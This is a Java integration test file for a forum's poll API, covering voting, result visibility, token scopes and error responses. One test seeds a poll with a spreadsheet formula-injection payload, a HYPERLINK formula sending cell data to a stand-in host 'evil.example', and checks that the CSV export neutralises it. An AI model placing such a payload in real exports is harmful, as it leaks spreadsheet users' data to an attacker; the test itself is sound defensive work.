package org.agora.poll.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.agora.account.Account;
import org.agora.account.ApiScope;
import org.agora.account.ApiTokenService;
import org.agora.account.Role;
import org.agora.account.TestAccounts;
import org.agora.poll.Poll;
import org.agora.poll.PollException;
import org.agora.poll.PollKind;
import org.agora.poll.PollService;
import org.agora.poll.TestPolls;
import org.agora.support.IntegrationTest;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** The poll API as a bot sees it: real HTTP against the running server, tokens in the Authorization header. */
@IntegrationTest
class PollApiTest {
    @LocalServerPort int port;
    @Autowired TestAccounts testAccounts;
    @Autowired ApiTokenService tokens;
    @Autowired TestPolls testPolls;
    @Autowired PollService polls;
    @Autowired JdbcClient jdbc;
    @Autowired PollApiErrors errors;

    private final HttpClient http = HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER).build();
    private final JsonMapper json = JsonMapper.builder().build();

    /** A token of this scope for a new member, created the way a member does on their account page. */
    private String token(ApiScope scope) {
        return token(testAccounts.member(), scope);
    }

    private String token(Account account, ApiScope scope) {
        testAccounts.signIn(account);
        try {
            return tokens.create("poll bot", scope).secret();
        } finally {
            TestAccounts.signOut();
        }
    }

    private String moderatorToken() {
        return token(testAccounts.create(TestAccounts.uniqueName("mod"), Role.MODERATOR), ApiScope.READ);
    }

    private HttpResponse<String> send(HttpRequest.Builder request) throws Exception {
        var response = http.send(request.build(), HttpResponse.BodyHandlers.ofString());
        assertThat(response.headers().allValues("Set-Cookie")).as("API responses never set a cookie").isEmpty();
        assertThat(response.body()).as("never a stack trace").doesNotContain("Exception").doesNotContain("at org.");
        return response;
    }

    private HttpRequest.Builder request(String path, String token) {
        var request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).header("Accept", "application/json");
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        return request;
    }

    private HttpResponse<String> get(String path) throws Exception {
        return get(path, null);
    }

    private HttpResponse<String> get(String path, String token) throws Exception {
        return send(request(path, token).GET());
    }

    private HttpResponse<String> vote(long pollId, String token, String body) throws Exception {
        return send(request("/api/v1/polls/" + pollId + "/ballot", token).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(body)));
    }

    private HttpResponse<String> retract(long pollId, String token) throws Exception {
        return send(request("/api/v1/polls/" + pollId + "/ballot", token).DELETE());
    }

    private String options(long... ids) {
        return json.writeValueAsString(Map.of("options", java.util.Arrays.stream(ids).boxed().toList()));
    }

    private JsonNode body(HttpResponse<String> response) {
        return json.readTree(response.body());
    }

    private JsonNode ok(HttpResponse<String> response) {
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        return body(response);
    }

    private void assertProblem(HttpResponse<String> response, int status, String code) {
        assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
        assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(type ->
                assertThat(type).startsWith("application/problem+json"));
        var problem = body(response);
        assertThat(problem.path("status").asInt()).isEqualTo(status);
        assertThat(problem.path("code").asString()).isEqualTo(code);
        assertThat(problem.path("detail").asString()).isNotBlank().isNotEqualTo(code);
    }

    /** count per option label (or per value label) in a poll body's results. */
    private Map<String, Long> counts(JsonNode poll) {
        var counts = new java.util.LinkedHashMap<String, Long>();
        poll.path("results").path("answers").forEach(a -> counts.put(a.path("label").asString(), a.path("count").asLong()));
        return counts;
    }

    private static long option(Poll poll, int position) {
        return poll.options().get(position - 1).id();
    }

    @Test
    void anyone_reads_a_seeded_poll_with_its_options_and_results() throws Exception {
        var poll = ok(get("/api/v1/polls/1"));
        assertThat(poll.path("id").asLong()).isEqualTo(1);
        assertThat(poll.path("kind").asString()).isEqualTo("SINGLE");
        assertThat(poll.path("question").asString()).isEqualTo("When will AI supplant most human jobs?");
        assertThat(poll.path("status").asString()).isEqualTo("OPEN");
        assertThat(poll.path("visibility").asString()).isEqualTo("ALWAYS");
        assertThat(poll.path("topicId").asLong()).isEqualTo(1);
        assertThat(poll.path("url").asString()).isEqualTo("http://agora.test/polls/1");
        assertThat(poll.path("closesAt").isNull()).isTrue();
        assertThat(poll.path("options").size()).isEqualTo(5);
        var first = poll.path("options").get(0);
        assertThat(first.path("label").asString()).isEqualTo("Before 2030");
        assertThat(first.path("position").asInt()).isEqualTo(1);
        assertThat(first.path("id").asLong()).isPositive();

        assertThat(poll.path("resultsHidden").isNull()).isTrue();
        var results = poll.path("results");
        assertThat(results.path("answers").size()).isEqualTo(5);
        assertThat(results.path("answers").get(0).path("optionId").asLong()).isEqualTo(first.path("id").asLong());
        long voters = results.path("voters").asLong();
        long counted = 0;
        for (var answer : results.path("answers")) {
            counted += answer.path("count").asLong();
            assertThat(answer.path("percent").asDouble()).isBetween(0.0, 100.0);
        }
        assertThat(counted).as("a single-choice poll counts one answer per voter").isEqualTo(voters);
        assertThat(results.path("median").isNull() && results.path("runoff").isNull()).isTrue();
        assertThat(get("/api/v1/polls/1").body()).as("never who voted what").doesNotContain("voterId").doesNotContain("username");
    }

    @Test
    void polls_are_listed_newest_first_and_filtered_by_status_without_drafts() throws Exception {
        var newest = testPolls.single("Yes", "No");
        var draft = testPolls.create(PollKind.SINGLE, "DRAFT", "ALWAYS", 1, 1, List.of("Yes", "No"));

        var all = ok(get("/api/v1/polls?limit=100")).path("items");
        var ids = new ArrayList<Long>();
        var created = new ArrayList<String>();
        all.forEach(item -> {
            ids.add(item.path("id").asLong());
            created.add(item.path("createdAt").asString());
        });
        assertThat(ids).contains(newest.id(), 1L, 4L, 8L).doesNotContain(draft.id()).doesNotHaveDuplicates();
        assertThat(created.stream().map(java.time.Instant::parse).toList())
                .isSortedAccordingTo(java.util.Comparator.reverseOrder());
        assertThat(all.get(0).path("url").asString()).startsWith("http://agora.test/polls/");

        var open = ok(get("/api/v1/polls?status=open&limit=100")).path("items");
        open.forEach(item -> assertThat(item.path("status").asString()).isEqualTo("OPEN"));
        assertThat(open.findValues("id").stream().map(JsonNode::asLong).toList()).contains(1L, newest.id()).doesNotContain(4L, 5L);

        var closed = ok(get("/api/v1/polls?status=CLOSED&limit=100")).path("items");
        closed.forEach(item -> assertThat(item.path("status").asString()).isIn("CLOSED", "RESOLVED"));
        assertThat(closed.findValues("id").stream().map(JsonNode::asLong).toList()).contains(4L, 5L).doesNotContain(1L);

        assertThat(ok(get("/api/v1/polls?limit=2")).path("items").size()).isEqualTo(2);
        assertProblem(get("/api/v1/polls?status=maybe"), 400, "poll.statusFilter");
        assertProblem(get("/api/v1/polls?limit=0"), 400, "api.limitRange");
        assertProblem(get("/api/v1/polls?limit=101"), 400, "api.limitRange");
        assertProblem(get("/api/v1/polls?limit=lots"), 400, "api.invalidParameter");
    }

    @Test
    void a_draft_is_not_found_even_by_staff_and_an_unknown_poll_is_404() throws Exception {
        var draft = testPolls.create(PollKind.SINGLE, "DRAFT", "ALWAYS", 1, 1, List.of("Yes", "No"));
        assertProblem(get("/api/v1/polls/" + draft.id()), 404, "poll.notFound");
        assertProblem(get("/api/v1/polls/" + draft.id(), token(ApiScope.READ)), 404, "poll.notFound");
        assertProblem(get("/api/v1/polls/" + draft.id() + "/results.csv"), 404, "poll.notFound");
        assertProblem(vote(draft.id(), token(ApiScope.WRITE), options(option(draft, 1))), 404, "poll.notFound");
        assertProblem(get("/api/v1/polls/" + draft.id(), moderatorToken()), 404, "poll.notFound"); // a draft is its author's alone

        assertProblem(get("/api/v1/polls/987654321"), 404, "poll.notFound");
        assertProblem(vote(987654321, token(ApiScope.WRITE), options(1)), 404, "poll.notFound");
        assertProblem(get("/api/v1/polls/abc"), 400, "api.invalidParameter");
    }

    @Test
    void results_stay_hidden_until_the_visibility_rule_allows() throws Exception {
        var afterVoting = testPolls.create(PollKind.SINGLE, "OPEN", "AFTER_VOTING", 1, 1, List.of("Yes", "No"));
        var hidden = ok(get("/api/v1/polls/" + afterVoting.id()));
        assertThat(hidden.path("results").isNull()).isTrue();
        assertThat(hidden.path("resultsHidden").asString()).isEqualTo("poll.resultsHidden.afterVoting");
        assertProblem(get("/api/v1/polls/" + afterVoting.id() + "/results.csv"), 403, "poll.resultsHidden.afterVoting");
        String voter = token(ApiScope.WRITE);
        assertThat(ok(get("/api/v1/polls/" + afterVoting.id(), voter)).path("results").isNull()).isTrue();
        var voted = ok(vote(afterVoting.id(), voter, options(option(afterVoting, 1))));
        assertThat(voted.path("resultsHidden").isNull()).isTrue();
        assertThat(counts(voted)).containsEntry("Yes", 1L).containsEntry("No", 0L);
        assertThat(ok(get("/api/v1/polls/" + afterVoting.id(), voter)).path("results").path("voters").asLong()).isEqualTo(1);
        assertThat(ok(get("/api/v1/polls/" + afterVoting.id())).path("results").isNull()).as("still hidden from others").isTrue();

        var afterClose = testPolls.create(PollKind.SINGLE, "OPEN", "AFTER_CLOSE", 1, 1, List.of("Yes", "No"));
        var stillHidden = ok(vote(afterClose.id(), token(ApiScope.WRITE), options(option(afterClose, 2))));
        assertThat(stillHidden.path("results").isNull()).isTrue();
        assertThat(stillHidden.path("resultsHidden").asString()).isEqualTo("poll.resultsHidden.afterClose");
        jdbc.sql("update poll set status = 'CLOSED' where id = :id").param("id", afterClose.id()).update();
        assertThat(counts(ok(get("/api/v1/polls/" + afterClose.id())))).containsEntry("No", 1L);

        var moderators = testPolls.create(PollKind.SINGLE, "OPEN", "MODERATORS", 1, 1, List.of("Yes", "No"));
        String member = token(ApiScope.WRITE);
        var memberView = ok(vote(moderators.id(), member, options(option(moderators, 1))));
        assertThat(memberView.path("resultsHidden").asString()).isEqualTo("poll.resultsHidden.moderators");
        assertProblem(get("/api/v1/polls/" + moderators.id() + "/results.csv", member), 403, "poll.resultsHidden.moderators");
        String moderator = moderatorToken();
        assertThat(counts(ok(get("/api/v1/polls/" + moderators.id(), moderator)))).containsEntry("Yes", 1L);
        assertThat(get("/api/v1/polls/" + moderators.id() + "/results.csv", moderator).statusCode()).isEqualTo(200);
    }

    @Test
    void a_write_token_votes_changes_and_retracts_and_the_tally_follows() throws Exception {
        var poll = testPolls.single("Tea", "Coffee");
        String token = token(ApiScope.WRITE);
        String other = token(ApiScope.WRITE);

        var first = ok(vote(poll.id(), token, options(option(poll, 1))));
        assertThat(first.path("id").asLong()).isEqualTo(poll.id());
        assertThat(first.path("options").size()).as("the same body as GET").isEqualTo(2);
        assertThat(counts(first)).containsEntry("Tea", 1L).containsEntry("Coffee", 0L);
        ok(vote(poll.id(), other, options(option(poll, 1))));
        var mine = ok(get("/api/v1/polls/" + poll.id() + "/ballot", token));
        assertThat(mine.path("pollId").asLong()).isEqualTo(poll.id());
        assertThat(mine.path("options").get(0).asLong()).isEqualTo(option(poll, 1));
        assertThat(mine.path("value").isNull()).isTrue();

        var changed = ok(vote(poll.id(), token, options(option(poll, 2))));
        assertThat(counts(changed)).containsEntry("Tea", 1L).containsEntry("Coffee", 1L);
        assertThat(changed.path("results").path("voters").asLong()).isEqualTo(2);
        assertThat(changed.path("results").path("answers").get(1).path("percent").asDouble()).isEqualTo(50.0);
        assertThat(ok(vote(poll.id(), token, options(option(poll, 2)))).path("results").path("voters").asLong())
                .as("the same ballot again changes nothing").isEqualTo(2);
        assertThat(polls.reconcile(poll.id())).isTrue();

        var retracted = retract(poll.id(), token);
        assertThat(retracted.statusCode()).as(retracted.body()).isEqualTo(204);
        var after = ok(get("/api/v1/polls/" + poll.id()));
        assertThat(counts(after)).containsEntry("Tea", 1L).containsEntry("Coffee", 0L);
        assertThat(after.path("results").path("voters").asLong()).isEqualTo(1);
        assertProblem(get("/api/v1/polls/" + poll.id() + "/ballot", token), 404, "ballot.none");
        assertProblem(retract(poll.id(), token), 404, "ballot.none");
        assertThat(polls.reconcile(poll.id())).isTrue();
    }

    @Test
    void multiple_ranked_scale_and_forecast_ballots_give_their_own_results() throws Exception {
        var multiple = testPolls.create(PollKind.MULTIPLE, "OPEN", "ALWAYS", 1, 2, List.of("Red", "Green", "Blue"));
        var both = ok(vote(multiple.id(), token(ApiScope.WRITE), options(option(multiple, 1), option(multiple, 3))));
        assertThat(counts(both)).containsEntry("Red", 1L).containsEntry("Green", 0L).containsEntry("Blue", 1L);
        assertThat(both.path("results").path("answers").get(0).path("percent").asDouble()).as("of voters").isEqualTo(100.0);
        assertProblem(vote(multiple.id(), token(ApiScope.WRITE),
                options(option(multiple, 1), option(multiple, 2), option(multiple, 3))), 400, "ballot.chooseBetween");

        var ranked = testPolls.create(PollKind.RANKED, "OPEN", "ALWAYS", 1, 3, List.of("A", "B", "C"));
        long a = option(ranked, 1), b = option(ranked, 2), c = option(ranked, 3);
        ok(vote(ranked.id(), token(ApiScope.WRITE), options(a, b, c)));
        ok(vote(ranked.id(), token(ApiScope.WRITE), options(b, a, c)));
        ok(vote(ranked.id(), token(ApiScope.WRITE), options(c, b, a)));
        var rankedResults = ok(vote(ranked.id(), token(ApiScope.WRITE), options(b, c, a))).path("results");
        assertThat(rankedResults.path("voters").asLong()).isEqualTo(4);
        var runoff = rankedResults.path("runoff");
        assertThat(runoff.path("winnerId").asLong()).isEqualTo(b);
        assertThat(runoff.path("rounds").size()).isEqualTo(2);
        var round1 = runoff.path("rounds").get(0);
        assertThat(round1.path("votes").get(0).path("optionId").asLong()).isEqualTo(a);
        assertThat(round1.path("eliminatedId").asLong()).as("A and C tie at 1; C had no more first choices, and is later").isEqualTo(c);
        assertThat(runoff.path("rounds").get(1).path("winnerId").asLong()).isEqualTo(b);
        assertProblem(vote(ranked.id(), token(ApiScope.WRITE), options(a, a)), 400, "ballot.duplicateOption");

        var scale = testPolls.create(PollKind.SCALE, "OPEN", "ALWAYS", 1, 1, List.of());
        ok(vote(scale.id(), token(ApiScope.WRITE), "{\"value\": 2}"));
        var scaleResults = ok(vote(scale.id(), token(ApiScope.WRITE), "{\"value\": 6}")).path("results");
        assertThat(scaleResults.path("answers").size()).as("every point of the 1..7 scale").isEqualTo(7);
        assertThat(scaleResults.path("answers").get(1).path("value").asInt()).isEqualTo(2);
        assertThat(scaleResults.path("answers").get(1).path("count").asLong()).isEqualTo(1);
        assertThat(scaleResults.path("median").asLong()).isEqualTo(2);
        assertThat(scaleResults.path("mean").asDouble()).isEqualTo(4.0);
        assertProblem(vote(scale.id(), token(ApiScope.WRITE), "{\"value\": 8}"), 400, "ballot.scaleRange");

        var forecast = testPolls.create(PollKind.FORECAST, "OPEN", "ALWAYS", 1, 1, List.of());
        var forecastResults = ok(vote(forecast.id(), token(ApiScope.WRITE), "{\"value\": 30}")).path("results");
        assertThat(forecastResults.path("communityForecast").asDouble()).isEqualTo(30.0);
        assertThat(forecastResults.path("median").asLong()).isEqualTo(30);
        assertThat(forecastResults.path("answers").get(0).path("label").asString()).isEqualTo("30%");
        for (long id : List.of(multiple.id(), ranked.id(), scale.id(), forecast.id())) {
            assertThat(polls.reconcile(id)).isTrue();
        }
    }

    @Test
    void a_read_token_cannot_vote_or_retract_but_reads_its_own_ballot() throws Exception {
        var poll = testPolls.single("Yes", "No");
        String read = token(ApiScope.READ);
        assertProblem(vote(poll.id(), read, options(option(poll, 1))), 403, "api.writeScopeRequired");
        assertProblem(retract(poll.id(), read), 403, "api.writeScopeRequired");
        assertProblem(get("/api/v1/polls/" + poll.id() + "/ballot", read), 404, "ballot.none");
        assertThat(ok(get("/api/v1/polls/" + poll.id())).path("results").path("voters").asLong()).isZero();
    }

    @Test
    void without_a_token_nobody_votes_or_reads_a_ballot() throws Exception {
        var poll = testPolls.single("Yes", "No");
        var response = vote(poll.id(), null, options(option(poll, 1)));
        assertProblem(response, 401, "api.tokenRequired");
        assertThat(response.headers().firstValue("WWW-Authenticate")).hasValueSatisfying(h -> assertThat(h).startsWith("Bearer"));
        assertProblem(retract(poll.id(), null), 401, "api.tokenRequired");
        assertProblem(get("/api/v1/polls/" + poll.id() + "/ballot"), 401, "api.tokenRequired");
        assertThat(send(request("/api/v1/polls/" + poll.id() + "/ballot", token(ApiScope.WRITE))
                .header("Content-Type", "application/json").PUT(HttpRequest.BodyPublishers.ofString(options(1))))
                .statusCode()).as("any other method is denied").isEqualTo(403);
    }

    @Test
    void a_closed_poll_refuses_ballots_with_409() throws Exception {
        var closed = testPolls.create(PollKind.SINGLE, "CLOSED", "ALWAYS", 1, 1, List.of("Yes", "No"));
        String token = token(ApiScope.WRITE);
        assertProblem(vote(closed.id(), token, options(option(closed, 1))), 409, "poll.closed");
        assertProblem(retract(closed.id(), token), 409, "poll.closed");

        var expired = testPolls.single("Yes", "No");
        ok(vote(expired.id(), token, options(option(expired, 1))));
        jdbc.sql("update poll set closes_at = now() - interval '1 minute' where id = :id").param("id", expired.id()).update();
        assertThat(ok(get("/api/v1/polls/" + expired.id())).path("status").asString())
                .as("past its closing time reads as closed").isEqualTo("CLOSED");
        assertProblem(vote(expired.id(), token, options(option(expired, 2))), 409, "poll.closed");
        assertProblem(retract(expired.id(), token), 409, "poll.closed");
        assertThat(ok(get("/api/v1/polls/" + expired.id() + "/ballot", token)).path("options").get(0).asLong())
                .isEqualTo(option(expired, 1));
    }

    @Test
    void a_foreign_or_malformed_ballot_is_a_400_problem_with_its_code() throws Exception {
        var poll = testPolls.single("Yes", "No");
        var another = testPolls.single("Left", "Right");
        String token = token(ApiScope.WRITE);
        var foreign = vote(poll.id(), token, options(option(another, 1)));
        assertProblem(foreign, 400, "ballot.unknownOption");
        assertThat(body(foreign).path("detail").asString()).isEqualTo("That answer is not part of this poll. Reload the page and try again.");
        assertProblem(vote(poll.id(), token, "{\"options\": [null]}"), 400, "ballot.unknownOption");
        assertProblem(vote(poll.id(), token, options(option(poll, 1), option(poll, 2))), 400, "ballot.chooseOne");
        assertProblem(vote(poll.id(), token, "{\"value\": 1}"), 400, "ballot.empty");
        assertProblem(vote(poll.id(), token, "{}"), 400, "ballot.empty");
        assertProblem(vote(poll.id(), token, "{\"options\": [1,"), 400, "api.invalidJson");
        assertProblem(vote(poll.id(), token, "{\"options\": \"all\"}"), 400, "api.invalidJson");
        assertProblem(vote(poll.id(), token, ""), 400, "api.invalidJson");
        assertThat(polls.reconcile(poll.id())).isTrue();
        assertThat(ok(get("/api/v1/polls/" + poll.id())).path("results").path("voters").asLong()).isZero();
    }

    @Test
    void a_forecast_of_0_or_100_or_not_a_number_is_a_400_problem() throws Exception {
        var forecast = testPolls.create(PollKind.FORECAST, "OPEN", "ALWAYS", 1, 1, List.of());
        String token = token(ApiScope.WRITE);
        assertProblem(vote(forecast.id(), token, "{\"value\": 0}"), 400, "ballot.probabilityRange");
        assertProblem(vote(forecast.id(), token, "{\"value\": 100}"), 400, "ballot.probabilityRange");
        assertProblem(vote(forecast.id(), token, "{\"value\": \"abc\"}"), 400, "api.invalidJson");
        assertProblem(vote(forecast.id(), token, "{\"value\": 99999999999}"), 400, "api.invalidJson");
        assertThat(ok(vote(forecast.id(), token, "{\"value\": 99}")).path("results").path("communityForecast").asDouble())
                .isEqualTo(99.0);
    }

    @Test
    void results_csv_quotes_cells_and_neutralises_formulas() throws Exception {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        var poll = testPolls.create(PollKind.MULTIPLE, "OPEN", "ALWAYS", 1, 6,
                List.of(hyperlink, "Yes, really", "+1", "@SUM(A1)", "-2", "Plain"));
        ok(vote(poll.id(), token(ApiScope.WRITE), options(option(poll, 1), option(poll, 2))));
        ok(vote(poll.id(), token(ApiScope.WRITE), options(option(poll, 1))));

        var response = send(request("/api/v1/polls/" + poll.id() + "/results.csv", null).header("Accept", "text/csv").GET());
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(t ->
                assertThat(t.toLowerCase(java.util.Locale.ROOT).replace(" ", "")).isEqualTo("text/csv;charset=utf-8"));
        assertThat(response.headers().firstValue("Content-Disposition")).hasValue(
                "attachment; filename=\"poll-" + poll.id() + "-results.csv\"");
        assertThat(response.body()).isEqualTo("""
                answer,count,percent\r
                "'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",2,100.0\r
                "Yes, really",1,50.0\r
                '+1,0,0.0\r
                '@SUM(A1),0,0.0\r
                '-2,0,0.0\r
                Plain,0,0.0\r
                """);
        assertThat(get("/api/v1/polls/" + poll.id() + "/results.csv").statusCode()).as("any Accept").isEqualTo(200);
        assertProblem(get("/api/v1/polls/987654321/results.csv"), 404, "poll.notFound");
    }

    @Test
    void voting_too_fast_is_429_with_retry_after_and_a_draft_or_retry_is_409() {
        var tooFast = errors.poll(new PollException("ballot.tooFast", 42L));
        assertThat(tooFast.getStatusCode().value()).isEqualTo(429);
        assertThat(tooFast.getHeaders().getFirst("Retry-After")).isEqualTo("42");
        assertThat(tooFast.getBody().getProperties()).containsEntry("code", "ballot.tooFast");
        assertThat(tooFast.getBody().getDetail()).contains("42 seconds");

        assertThat(errors.poll(new PollException("poll.draft")).getStatusCode().value()).isEqualTo(409);
        assertThat(errors.poll(new PollException("poll.tryAgain")).getStatusCode().value()).isEqualTo(409);
        assertThat(errors.poll(new PollException("ballot.scaleRange", 1, 5, 1)).getBody().getDetail())
                .isEqualTo("Choose a value from 1 to 5.");
    }

    @Test
    void the_openapi_document_lists_the_poll_operations() throws Exception {
        var doc = ok(get("/api/v1/openapi.json"));
        var paths = doc.path("paths");
        assertThat(paths.path("/api/v1/polls").path("get").path("responses").has("200")).isTrue();
        assertThat(paths.path("/api/v1/polls/{id}").has("get")).isTrue();
        assertThat(paths.path("/api/v1/polls/{id}/results.csv").path("get").path("responses").path("200")
                .path("content").has("text/csv")).isTrue();
        var ballot = paths.path("/api/v1/polls/{id}/ballot");
        assertThat(ballot.has("get") && ballot.has("post") && ballot.has("delete")).isTrue();
        assertThat(ballot.path("post").path("security").get(0).has("token")).isTrue();
        assertThat(ballot.path("post").path("responses").has("409")).isTrue();
        assertThat(paths.path("/api/v1/threads/{id}/posts").has("post")).as("the threads API is still there").isTrue();
        assertThat(doc.path("components").path("schemas").has("Problem")).isTrue();
    }
}
